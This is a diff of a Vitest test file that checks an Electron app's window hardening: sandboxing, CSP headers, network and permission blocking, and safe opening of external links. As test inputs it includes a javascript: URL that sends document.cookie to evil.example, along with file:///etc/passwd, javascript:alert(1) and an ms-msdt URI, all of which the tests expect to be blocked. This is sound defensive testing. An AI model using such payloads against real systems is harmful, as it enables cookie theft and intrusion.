@@ -1,26 +1,46 @@
 import { readFileSync } from 'node:fs';
 import { beforeEach, describe, expect, it, vi } from 'vitest';
-import { BrowserWindow, fakeEvent, shell } from './fake-electron';
+import type { App, WebContents } from 'electron';
+import { app, BrowserWindow, FakeWebContents, fakeEvent, shell } from './fake-electron';
 import {
   CONTENT_SECURITY_POLICY,
   META_CONTENT_SECURITY_POLICY,
   createMainWindow,
+  guardAllWebContents,
+  guardWebContents,
+  openExternalSafely,
   rendererUrl,
   safeExternalUrl,
+  usesNativeSpellchecker,
 } from '../../electron/main/window';
 
 vi.mock('electron', () => import('./fake-electron'));
 
+const logger = { info: vi.fn(), warn: vi.fn(), error: vi.fn() };
+
 function openWindow(): BrowserWindow {
-  createMainWindow({ preloadPath: '/app/dist/preload/index.cjs', rendererFile: '/app/dist/renderer/index.html' });
+  createMainWindow({ preloadPath: '/app/dist/preload/index.cjs', rendererFile: '/app/dist/renderer/index.html', logger });
   const win = BrowserWindow.created.at(-1);
   if (!win) throw new Error('no window was created');
   return win;
 }
 
 beforeEach(() => {
-  shell.openExternal.mockClear();
+  shell.openExternal.mockReset();
+  shell.openExternal.mockResolvedValue(undefined);
+  logger.warn.mockClear();
 });
+
+/** Lets the promise chains behind a link click settle. */
+const settle = () => new Promise((resolve) => setTimeout(resolve, 0));
+
+/** A CSP header response as Electron's webRequest hands it over; answers the headers the page would get. */
+function headersAfter(contents: FakeWebContents, responseHeaders?: Record<string, string[]>): Record<string, string[]> {
+  const callback = vi.fn();
+  contents.session.headersListener?.({ url: 'file:///app/dist/renderer/index.html', resourceType: 'mainFrame', ...(responseHeaders ? { responseHeaders } : {}) }, callback);
+  const [[answer]] = callback.mock.calls as [[{ responseHeaders: Record<string, string[]> }]];
+  return answer.responseHeaders;
+}
 
 describe('the main window', () => {
   it('runs the renderer isolated, sandboxed, without Node and with web security', () => {
@@ -34,8 +54,19 @@ describe('the main window', () => {
       webSecurity: true,
       allowRunningInsecureContent: false,
       webviewTag: false,
+      navigateOnDragDrop: false,
+      disableBlinkFeatures: 'Auxclick',
+      spellcheck: usesNativeSpellchecker(process.platform),
       preload: '/app/dist/preload/index.cjs',
     });
+    // Nothing that would loosen the sandbox again.
+    for (const risky of ['enableBlinkFeatures', 'experimentalFeatures', 'enableRemoteModule', 'additionalArguments', 'partition']) expect(prefs).not.toHaveProperty(risky);
+  });
+
+  it('spell-checks with the OS where it has one, and never downloads dictionaries on Linux', () => {
+    expect(usesNativeSpellchecker('darwin')).toBe(true);
+    expect(usesNativeSpellchecker('win32')).toBe(true);
+    expect(usesNativeSpellchecker('linux')).toBe(false);
   });
 
   it('loads the built renderer from its file', () => {
@@ -55,6 +86,21 @@ describe('the main window', () => {
     expect(cspNames).toEqual(['Content-Security-Policy']);
     expect(responseHeaders['Content-Security-Policy']).toEqual([CONTENT_SECURITY_POLICY]);
     expect(responseHeaders['Content-Type']).toEqual(['text/html']);
+  });
+
+  it('refuses every request to the network, letting only the app\'s own files and inline data load', () => {
+    const session = openWindow().webContents.session;
+    const answer = (url: string): unknown => {
+      const callback = vi.fn();
+      session.requestListener?.({ url, resourceType: 'image' }, callback);
+      return callback.mock.calls[0]?.[0];
+    };
+    for (const url of ['https://tracker.example/pixel.gif', 'http://127.0.0.1:8080/x', 'ws://example.com/', 'ftp://example.com/f', 'not a url']) {
+      expect(answer(url), url).toEqual({ cancel: true });
+    }
+    for (const url of ['file:///app/dist/renderer/assets/index.js', 'data:image/png;base64,AAAA', 'blob:file:///abc']) {
+      expect(answer(url), url).toEqual({ cancel: false });
+    }
   });
 
   it('sets the CSP header on responses that had no headers', () => {
@@ -140,11 +186,77 @@ describe('the main window', () => {
 
   it('denies every permission request and check', () => {
     const session = openWindow().webContents.session;
-    for (const permission of ['media', 'notifications', 'geolocation', 'clipboard-read', 'openExternal', 'unknown']) {
+    for (const permission of ['media', 'notifications', 'geolocation', 'clipboard-read', 'openExternal', 'hid', 'serial', 'usb', 'fileSystem', 'unknown']) {
       const callback = vi.fn();
       session.permissionRequestHandler?.({}, permission, callback, {});
       expect(callback).toHaveBeenCalledWith(false);
       expect(session.permissionCheckHandler?.(null, permission, 'file://', {})).toBe(false);
     }
+  });
+
+  it('keeps frames inside the page from navigating, leaving the top frame to will-navigate', () => {
+    const contents = openWindow().webContents;
+    const subframe = fakeEvent({ url: 'https://evil.example/', isMainFrame: false });
+    contents.emit('will-frame-navigate', subframe);
+    expect(subframe.preventDefault).toHaveBeenCalled();
+    const top = fakeEvent({ url: 'https://example.com/', isMainFrame: true });
+    contents.emit('will-frame-navigate', top);
+    expect(top.preventDefault).not.toHaveBeenCalled();
+    expect(shell.openExternal).not.toHaveBeenCalled();
+  });
+
+  it('logs the scheme of a blocked link, never the link itself', async () => {
+    const contents = openWindow().webContents;
+    contents.emit('will-navigate', fakeEvent({ url: 'javascript:fetch("https://evil.example/?t="+document.cookie)' }));
+    await settle();
+    expect(logger.warn).toHaveBeenCalledWith('[window] blocked a link to a javascript: URL');
+    expect(JSON.stringify(logger.warn.mock.calls)).not.toContain('evil.example');
+  });
+
+  it('says so when the OS cannot open a link, without crashing the window', async () => {
+    shell.openExternal.mockRejectedValueOnce(new Error('no browser installed'));
+    openWindow().webContents.emit('will-navigate', fakeEvent({ url: 'https://example.com/' }));
+    await settle();
+    expect(logger.warn).toHaveBeenCalledWith('[window] could not open a link: no browser installed');
+  });
+
+  it('opens only validated web and mail links through the shell', async () => {
+    expect(await openExternalSafely('https://example.com/a b')).toBe(true);
+    expect(shell.openExternal).toHaveBeenCalledWith('https://example.com/a%20b');
+    for (const url of ['file:///etc/passwd', 'javascript:alert(1)', 'ms-msdt:/id PCWDiagnostic', 'https://ann:pw@example.com/', 'https://']) {
+      expect(await openExternalSafely(url), url).toBe(false);
+    }
+    expect(shell.openExternal).toHaveBeenCalledTimes(1);
+  });
+
+  describe('every other webContents the app creates (guardAllWebContents)', () => {
+    const guardedApp = app as unknown as App;
+    guardAllWebContents(guardedApp, logger);
+
+    it('gets the same fences as the main window', () => {
+      const contents = new FakeWebContents();
+      app.emit('web-contents-created', {}, contents as unknown as WebContents);
+      const navigation = fakeEvent({ url: 'file:///etc/passwd' });
+      contents.emit('will-navigate', navigation);
+      expect(navigation.preventDefault).toHaveBeenCalled();
+      expect(contents.windowOpenHandler?.({ url: 'https://example.com/' })).toEqual({ action: 'deny' });
+      const webview = fakeEvent();
+      contents.emit('will-attach-webview', webview);
+      expect(webview.preventDefault).toHaveBeenCalled();
+      const callback = vi.fn();
+      contents.session.permissionRequestHandler?.(contents, 'media', callback, {});
+      expect(callback).toHaveBeenCalledWith(false);
+      expect(headersAfter(contents)['Content-Security-Policy']).toEqual([CONTENT_SECURITY_POLICY]);
+    });
+
+    it('guards the main window once, so a link opens once', async () => {
+      const contents = openWindow().webContents;
+      app.emit('web-contents-created', {}, contents as unknown as WebContents);
+      guardWebContents(contents as unknown as WebContents, logger);
+      contents.emit('will-navigate', fakeEvent({ url: 'https://example.com/help' }));
+      await settle();
+      expect(shell.openExternal).toHaveBeenCalledTimes(1);
+      expect(contents.listenerCount('will-navigate')).toBe(1);
+    });
   });
 });
